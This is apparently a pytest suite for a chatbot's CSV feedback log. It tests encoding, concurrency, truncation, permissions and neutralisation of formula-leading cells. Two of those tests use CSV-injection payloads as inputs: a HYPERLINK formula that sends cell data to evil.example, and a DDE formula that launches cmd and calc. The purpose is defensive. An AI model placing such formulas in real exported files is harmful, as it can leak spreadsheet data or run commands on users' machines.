"""The flag log: a CSV whose header and rows agree, safe to open in a spreadsheet, and safe
for several worker processes appending at once (real files, real processes, no sleeps)."""

from __future__ import annotations

import csv
import errno
import multiprocessing
import re
import stat
from collections import Counter
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from flask_chatbot.stores.flag_log import COLUMNS, MAX_MESSAGE_CHARS, FlagLog

HEADER_LINE = b"conversation,index,message,flag,timestamp,user\r\n"
BOM = b"\xef\xbb\xbf"
SPAWN = multiprocessing.get_context("spawn")  # fork is unsafe in a threaded pytest process


def raw_rows(path: Path) -> list[list[str]]:
    """Every record in the file, header included, parsed the way the docs tell users to."""
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def write_one(log: FlagLog, **fields: Any) -> None:
    row = {"conversation": "c1", "index": 0, "message": "hi", "flag": "Like"} | fields
    log.write(**row)


def test_header_and_every_row_have_the_same_six_columns(tmp_path: Path) -> None:
    log = FlagLog(tmp_path / "flagged")
    when = datetime(2026, 11, 30, 19, 53, 36, tzinfo=timezone.utc)
    log.write(conversation="c1", index=1, message="first", flag="Like", user="ada", timestamp=when)
    log.write(conversation="c2", index=4, message="second", flag="Off topic", timestamp=when)

    rows = raw_rows(tmp_path / "flagged" / "flags.csv")
    assert rows == [
        list(COLUMNS),
        ["c1", "1", "first", "Like", "2026-11-30T19:53:36Z", "ada"],
        ["c2", "4", "second", "Off topic", "2026-11-30T19:53:36Z", ""],
    ]
    assert list(COLUMNS) == ["conversation", "index", "message", "flag", "timestamp", "user"]
    assert log.read() == [dict(zip(COLUMNS, row, strict=False)) for row in rows[1:]]


def test_file_is_utf8_with_one_bom_and_crlf_records(tmp_path: Path) -> None:
    log = FlagLog(tmp_path, filename="feedback.csv")
    write_one(log, message="café ☕")
    write_one(log, message="naïve")

    data = (tmp_path / "feedback.csv").read_bytes()
    assert data.startswith(BOM + HEADER_LINE)
    assert data.count(BOM) == 1  # only at the start, not before each appended row
    assert data.endswith(b"\r\n") and data.count(b"\r\n") == 3
    data.decode("utf-8")  # strictly valid UTF-8


def test_timestamp_is_utc_iso_seconds(tmp_path: Path) -> None:
    log = FlagLog(tmp_path)
    paris = timezone(timedelta(hours=1))
    write_one(log, timestamp=datetime(2026, 11, 30, 20, 53, 36, 987654, tzinfo=paris))
    before = datetime.now(timezone.utc).replace(microsecond=0)
    write_one(log)
    after = datetime.now(timezone.utc)

    given, default = (row["timestamp"] for row in log.read())
    assert given == "2026-11-30T19:53:36Z"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", default)
    assert before <= datetime.strptime(default, "%Y-%m-%dT%H:%M:%S%z") <= after


def test_naive_timestamp_and_bad_index_are_refused_without_writing(tmp_path: Path) -> None:
    log = FlagLog(tmp_path)
    with pytest.raises(ValueError, match="timezone-aware"):
        write_one(log, timestamp=datetime(2026, 11, 30, 19, 53, 36))
    for index in (-1, True, "3"):
        with pytest.raises(ValueError, match="index"):
            write_one(log, index=index)
    assert log.read() == []
    assert not (tmp_path / "flags.csv").exists()


@pytest.mark.parametrize("filename", ["", ".", "..", "../flags.csv", "a/b.csv"])
def test_filename_must_be_a_plain_name(tmp_path: Path, filename: str) -> None:
    with pytest.raises(ValueError, match="plain file name"):
        FlagLog(tmp_path, filename=filename)


@pytest.mark.parametrize(
    "message",
    [
        "line one\nline two\n\nline four",
        "windows\r\nline ends\r\n",
        'she said "hi", then "bye"',
        "a,b,c,,",
        '"',
        "emoji 😀👩🏽‍💻 and 中文 and العربية and \u200b zero-width",
        "",
        " leading and trailing spaces ",
    ],
)
def test_messages_round_trip_exactly(tmp_path: Path, message: str) -> None:
    log = FlagLog(tmp_path)
    write_one(log, message=message, index=7)
    write_one(log, message="after", index=8)

    rows = raw_rows(tmp_path / "flags.csv")
    assert [len(row) for row in rows] == [6, 6, 6]
    assert rows[1][2] == message
    assert rows[2][1:3] == ["8", "after"]  # the next record starts where it should


@pytest.mark.parametrize(
    "lead",
    [
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        " =",
        "\n=",
        "\u00a0=",
        "\ufeff=",
        "\u200b+",
        " \u3000@",
        "\uff1d",
        "\uff0b",
        "\u200b\uff0d",
    ],
)
@pytest.mark.parametrize("column", ["conversation", "message", "flag", "user"])
def test_formula_leading_cells_are_neutralised(tmp_path: Path, lead: str, column: str) -> None:
    value = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
    log = FlagLog(tmp_path)
    write_one(log, **{column: value})

    (row,) = log.read()
    assert row[column] == "'" + value
    others = {"conversation": "c1", "message": "hi", "flag": "Like", "user": ""}
    assert {k: row[k] for k in others if k != column} == {k: v for k, v in others.items() if k != column}


def test_equals_sign_inside_a_cell_and_the_index_are_untouched(tmp_path: Path) -> None:
    log = FlagLog(tmp_path)
    write_one(log, message="2+2=4 and a-b @home", flag="Like=yes", index=0)

    (row,) = log.read()
    assert row["message"] == "2+2=4 and a-b @home"
    assert row["flag"] == "Like=yes"
    assert row["index"] == "0"


def test_nul_characters_are_stripped_before_the_formula_check(tmp_path: Path) -> None:
    log = FlagLog(tmp_path)
    write_one(log, message="\x00=cmd|' /C calc'!A0", conversation="c\x001", user="a\x00da")

    (row,) = log.read()
    assert row["message"] == "'=cmd|' /C calc'!A0"
    assert (row["conversation"], row["user"]) == ("c1", "ada")
    assert b"\x00" not in (tmp_path / "flags.csv").read_bytes()


def test_a_huge_message_is_capped_with_a_note(tmp_path: Path) -> None:
    log = FlagLog(tmp_path)
    message = "x" * (MAX_MESSAGE_CHARS + 200_000)
    write_one(log, message=message)

    (row,) = log.read()
    assert row["message"].startswith("x" * MAX_MESSAGE_CHARS + "…")
    assert row["message"].endswith(f"[truncated: {len(message)} characters in all]")
    assert (tmp_path / "flags.csv").stat().st_size < MAX_MESSAGE_CHARS + 1_000


def test_a_lone_surrogate_does_not_lose_the_row(tmp_path: Path) -> None:
    log = FlagLog(tmp_path)
    write_one(log, message="broken \ud800 pair")

    assert log.read()[0]["message"] == "broken \ufffd pair"
    (tmp_path / "flags.csv").read_bytes().decode("utf-8")


def test_directory_is_created_on_first_write_and_not_world_readable(tmp_path: Path) -> None:
    log = FlagLog(tmp_path / "deep" / "flagged")
    assert log.read() == []
    assert not (tmp_path / "deep").exists()  # nothing is created before a flag arrives
    write_one(log)

    directory_mode = stat.S_IMODE((tmp_path / "deep" / "flagged").stat().st_mode)
    file_mode = stat.S_IMODE((tmp_path / "deep" / "flagged" / "flags.csv").stat().st_mode)
    assert directory_mode & ~0o750 == 0  # at most rwxr-x--- (the umask may remove more)
    assert file_mode & ~0o640 == 0


# --- several processes ------------------------------------------------------------------

PADDING = 'line, "quoted"\r\nnext €😀 '


def long_message(worker: int, seq: int) -> str:
    """A multi-line message naming its writer, with padding whose length varies per row."""
    length = 1 + (worker * 7919 + seq * 104729) % 12_000
    padding = (PADDING * (length // len(PADDING) + 1))[:length]
    return f"worker={worker} seq={seq}\n{padding}"


def write_many(directory: str, worker: int, count: int) -> None:
    log = FlagLog(directory)
    for seq in range(count):
        log.write(conversation=f"conv-{worker}", index=seq, message=long_message(worker, seq), flag="Dislike")


def test_four_processes_lose_no_row_and_interleave_no_bytes(tmp_path: Path) -> None:
    workers = [SPAWN.Process(target=write_many, args=(str(tmp_path), w, 250)) for w in range(4)]
    for process in workers:
        process.start()
    for process in workers:
        process.join(timeout=120)
    assert [process.exitcode for process in workers] == [0, 0, 0, 0]

    data = (tmp_path / "flags.csv").read_bytes()
    assert data.startswith(BOM + HEADER_LINE) and data.count(HEADER_LINE) == 1
    rows = raw_rows(tmp_path / "flags.csv")
    assert rows[0] == list(COLUMNS) and len(rows) == 1 + 1000
    seen: Counter[tuple[int, int]] = Counter()
    for conversation, index, message, flag, timestamp, user in rows[1:]:
        match = re.fullmatch(r"worker=(\d) seq=(\d+)", message.split("\n", 1)[0])
        assert match, message[:80]
        worker, seq = int(match[1]), int(match[2])
        assert message == long_message(worker, seq)  # padding intact, nothing spliced in
        assert (conversation, index, flag, user) == (f"conv-{worker}", str(seq), "Dislike", "")
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", timestamp)
        seen[worker, seq] += 1
    assert seen == Counter({(w, s): 1 for w in range(4) for s in range(250)})


ROUNDS = 40


def race_on_new_file(base: str, worker: int, barrier: Any) -> None:
    for round_ in range(ROUNDS):
        log = FlagLog(Path(base) / f"round-{round_}")  # directory missing until someone writes
        barrier.wait()  # all four write to the missing file at the same moment
        log.write(conversation=f"conv-{worker}", index=round_, message=f"from {worker}", flag="Like")


def test_header_is_written_once_when_four_processes_create_the_file(tmp_path: Path) -> None:
    barrier = SPAWN.Barrier(4, timeout=60)  # a worker that dies breaks it for the others, not forever
    workers = [SPAWN.Process(target=race_on_new_file, args=(str(tmp_path), w, barrier)) for w in range(4)]
    for process in workers:
        process.start()
    for process in workers:
        process.join(timeout=120)
    assert [process.exitcode for process in workers] == [0, 0, 0, 0]

    for round_ in range(ROUNDS):
        path = tmp_path / f"round-{round_}" / "flags.csv"
        data = path.read_bytes()
        assert data.startswith(BOM + HEADER_LINE), round_
        assert data.count(HEADER_LINE) == 1 and data.count(BOM) == 1, round_
        rows = raw_rows(path)
        assert sorted(row[0] for row in rows[1:]) == [f"conv-{w}" for w in range(4)], round_


def write_past_file_size_limit(path: str, limit: int) -> None:
    """Exit 0 if write() failed with EFBIG after a partial write, leaving the file as it was."""
    import resource
    import signal

    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # get EFBIG instead of being killed
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    try:
        FlagLog(Path(path).parent).write(conversation="c2", index=1, message="y" * 5_000, flag="Like")
    except OSError as error:
        raise SystemExit(0 if error.errno == errno.EFBIG else 2) from None
    raise SystemExit(1)


def test_a_failed_partial_write_leaves_the_log_as_it_was(tmp_path: Path) -> None:
    log = FlagLog(tmp_path)
    write_one(log, message="kept")
    path = tmp_path / "flags.csv"
    before = path.read_bytes()

    # The disk accepts only 100 more bytes: the write is torn part-way, as on a full disk.
    child = SPAWN.Process(target=write_past_file_size_limit, args=(str(path), len(before) + 100))
    child.start()
    child.join(timeout=60)
    assert child.exitcode == 0
    assert path.read_bytes() == before

    write_one(log, message="next")
    assert [row["message"] for row in log.read()] == ["kept", "next"]
